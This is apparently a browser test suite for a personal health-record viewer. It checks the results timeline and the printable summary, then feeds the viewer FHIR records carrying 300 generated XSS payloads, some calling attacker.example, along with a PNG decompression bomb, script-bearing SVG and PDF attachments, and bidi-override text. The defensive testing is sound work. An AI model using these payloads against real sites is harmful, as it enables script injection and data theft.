// Records as a person reads them, by the real core in a real browser: results over time, the summary, and records
// made to run, to fetch or to deceive.
import assert from "node:assert/strict"
import { after, before, test } from "node:test"
import * as e from "./lib.mjs"
import { sampleFile } from "./sample.mjs"

/** Ways to make a browser run or fetch something, each of which would call pwned() or another host. */
const vectors = [
  "<script>pwned()</script>",
  "<script src=https://attacker.example/x.js></script>",
  "<img src=x onerror=pwned()>",
  "<img src=https://attacker.example/x.png>",
  "<svg onload=pwned()></svg>",
  "<svg><script>pwned()</script></svg>",
  "<svg><use href='https://attacker.example/x.svg#a'/></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<iframe src=javascript:pwned()></iframe>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<object data=https://attacker.example/x></object>",
  "<embed src=https://attacker.example/x>",
  "<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>",
  "<link rel=stylesheet href=https://attacker.example/x.css>",
  "<link rel=preload as=image href=https://attacker.example/x>",
  "<style>@import 'https://attacker.example/x.css'</style>",
  "<style>*{background:url(https://attacker.example/x)}</style>",
  "<div style='background:url(https://attacker.example/x)'>x</div>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
  "<base href=https://attacker.example/>",
  "<form action=https://attacker.example/><input autofocus onfocus=pwned()></form>",
  "<video src=https://attacker.example/x onerror=pwned()></video>",
  "<audio><source src=x onerror=pwned()></audio>",
  "<details open ontoggle=pwned()>x</details>",
  "<body onload=pwned()>",
  "<marquee onstart=pwned()>x</marquee>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<template><img src=x onerror=pwned()></template>",
  "<input onfocus=pwned() autofocus>",
  "<x onclick=pwned() tabindex=0 autofocus onfocus=pwned()>x</x>",
]
const dresses = [
  (v) => v,
  (v) => v.toUpperCase().replaceAll("PWNED", "pwned"),
  (v) => `"'>${v}`,
  (v) => `</textarea></title></style></script>${v}`,
  (v) => `<!-- --!>${v}<!--`,
  (v) => `<![CDATA[${v}]]>`,
  (v) => v.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (v) => v.replaceAll("<", "\u003c\u0000"),
  (v) => `{@html "${v}"}{{constructor.constructor('pwned()')()}}`,
  (v) => `<p>${v.slice(0, -1)}`,
]
const payloads = vectors.flatMap((vector) => dresses.map((dress) => dress(vector)))

/** Thirty Observations with ten payloads each in five fields: narrative, names, comments, texts and files. */
const hostile = Array.from({ length: 30 }, (_, i) => {
  const ten = payloads.slice(i * 10, i * 10 + 10)
  return {
    resourceType: "DocumentReference",
    id: `hostile-${i}`,
    status: "current",
    date: `2020-01-${String((i % 28) + 1).padStart(2, "0")}`,
    description: `mallory ${i} ${ten.join(" ")}`,
    text: { status: "generated", div: `<div xmlns="http://www.w3.org/1999/xhtml">${ten.join("")}</div>` },
    category: ten.map((text) => ({ text, coding: [{ system: text, code: text, display: text }] })),
    author: ten.map((display) => ({ display, reference: display })),
    content: ten.map((text) => ({
      attachment: {
        contentType: "text/html",
        title: text,
        data: Buffer.from(text).toString("base64"),
        url: text,
      },
    })),
  }
})

/** A PNG header that promises 65,535 by 65,535 pixels. */
const bomb = Buffer.from([
  ...[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52],
  ...[0, 0, 255, 255, 0, 0, 255, 255, 8, 6, 0, 0, 0],
])
const dot =
  "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGM4oaGhcUKDQUPjxIkTGgAgjgUBVoQyaQAAAABJRU5ErkJggg=="
const attached = (id, contentType, data) => ({
  resourceType: "DocumentReference",
  id,
  status: "current",
  description: id,
  date: "2019-01-01",
  content: [{ attachment: { contentType, data } }],
})

const file = {
  name: "hostile.json",
  mimeType: "application/fhir+json",
  buffer: Buffer.from(
    JSON.stringify({
      resourceType: "Bundle",
      type: "collection",
      entry: [
        ...hostile,
        attached("a picture", "image/png", dot),
        attached("a bomb", "image/png", bomb.toString("base64")),
        attached(
          "a broken picture",
          "image/jpeg",
          Buffer.from("\xff\xd8\xff\xe0 no picture", "latin1").toString("base64"),
        ),
        attached(
          "a drawing",
          "image/svg+xml",
          Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>").toString("base64"),
        ),
        attached(
          "a page",
          "application/pdf",
          Buffer.from("%PDF-1.4 <script>pwned()</script>").toString("base64"),
        ),
        {
          resourceType: "Condition",
          id: "bidi",
          code: { text: "Benign\u202Ecitamehtsa" },
          clinicalStatus: {
            coding: [{ system: "http://terminology.hl7.org/CodeSystem/condition-clinical", code: "active" }],
          },
          note: [{ text: "zero\u200Bwidth", authorString: "Dr. \u202Eniwel" }],
        },
      ].map((resource) => ({ resource })),
    }),
  ),
}

let server, amina, page
before(async () => {
  server = await e.relay()
  amina = await e.profile(server.origin)
  page = amina.page
  await page.addInitScript(() => {
    window.pwned = () => console.error("attack A30: a record ran")
  })
  await e.createFolder(page, server.origin, "Amina Haddad")
  await e.importFile(page, sampleFile())
  await e.importFile(page, file)
})
after(async () => {
  await amina?.end()
  await server?.end()
})

const home = async () => {
  await e.goto(page, "#/")
  await e.seen(page, "timeline-item")
}
/** Opens the first record that a search finds, and waits until it is read. */
async function openNamed(name) {
  await home()
  await e.fill(page, "search", name)
  await page.waitForTimeout(400)
  const link = page.getByTestId("timeline-item").filter({ hasText: name }).locator("a").first()
  await link.click()
  await e.seen(page, "reading")
}

test("the latest result is on the first screen: 0 clicks; how it changed: 1", async () => {
  await home()
  await e.seen(page, "latest")
  assert.match(await e.text(page, "latest"), /7\.60 %/)
  await e.press(page, "to-trend")
  await e.seen(page, "chart")
  await e.until(
    async () => (await page.getByTestId("trend-table").locator("tbody tr").count()) === 10,
    "ten results",
  )
  const sentence = await e.text(page, "trend-sentence")
  assert.match(sentence, /10 results, from 4 May 2015 to 4 May 2024/)
  assert.match(sentence, /Lowest 7\.60 %, highest 8\.50 %/)
  assert.deepEqual(await e.axeFaults(page, "trend"), [])
})

test("the summary is one click away, says what is not recorded, and prints at once when asked", async () => {
  await home()
  await e.press(page, "to-summary")
  await page.locator('[data-testid="summary"][data-done="true"]').waitFor()
  const section = (name) => page.locator(`[data-section="${name}"]`).innerText()
  assert.match(await section("allergies"), /Nothing recorded here/)
  assert.doesNotMatch(await e.text(page, "summary"), /\b[Nn]one\b/)
  assert.match(await section("problems"), /Benign/)
  assert.match(await section("results"), /7\.60 %/)
  assert.deepEqual(await e.axeFaults(page, "summary"), [])
  await page.locator('[data-testid="summary-line"] a').first().click()
  await e.seen(page, "reading")
  await home()
  await page.evaluate(() => {
    window.print = () => (document.body.dataset.printed = "yes")
  })
  await e.press(page, "print-summary")
  await page.locator('body[data-printed="yes"]').waitFor()
  await page.emulateMedia({ media: "print", colorScheme: "dark" })
  const paper = await page.evaluate(() => getComputedStyle(document.documentElement).colorScheme)
  const head = await page.evaluate(
    () => getComputedStyle(document.querySelector('[data-testid="summary-head"]')).display,
  )
  await page.emulateMedia({ media: null, colorScheme: "light" })
  assert.equal(paper, "light")
  assert.equal(head, "table-header-group")
})

test("attack A30: 300 payloads in five fields run nothing and ask nobody", async () => {
  assert.equal(payloads.length, 300)
  await home()
  await e.fill(page, "search", "mallory")
  await page.waitForTimeout(600)
  const ids = await page
    .getByTestId("timeline-item")
    .evaluateAll((all) => all.map((each) => each.dataset.record))
  assert.equal(ids.length, 30)
  for (const id of ids) {
    await e.goto(page, `#/record/${id}`)
    await page.locator(`[data-record="${id}"] [data-testid="reading"]`).waitFor()
    await page.evaluate(() => document.querySelectorAll("main details").forEach((each) => (each.open = true)))
  }
  const odd =
    "iframe, object, embed, main script, main style, main img, main svg:not(.drawing) script, main a[href^='javascript']"
  assert.equal(await page.locator(odd).count(), 0)
  assert.deepEqual(amina.faults, [])
})

test("attack A33: a picture is decoded without keys, a broken or huge one harms nothing else", async () => {
  await openNamed("a picture")
  await page.locator('canvas[data-drawn="yes"]').waitFor()
  for (const name of ["a bomb", "a broken picture"]) {
    await openNamed(name)
    await page.locator("[data-testid=reading] .band.warn").waitFor()
  }
  for (const name of ["a drawing", "a page"]) {
    await openNamed(name)
    await e.seen(page, "save-attachment")
    assert.equal(await page.locator("main canvas, main img, main iframe, main embed, main object").count(), 0)
  }
  await openNamed("a picture")
  await page.locator('canvas[data-drawn="yes"]').waitFor()
  assert.deepEqual(amina.faults, [])
})

test("attack A34: what turns a name around is visible", async () => {
  await openNamed("Benign")
  const read = await e.text(page, "reading")
  assert.match(read, /Benign\s*U\+202E\s*citamehtsa/)
  assert.match(read, /zero\s*U\+200B\s*width/)
  assert.match(read, /Dr\.\s*U\+202E\s*niwel/)
})
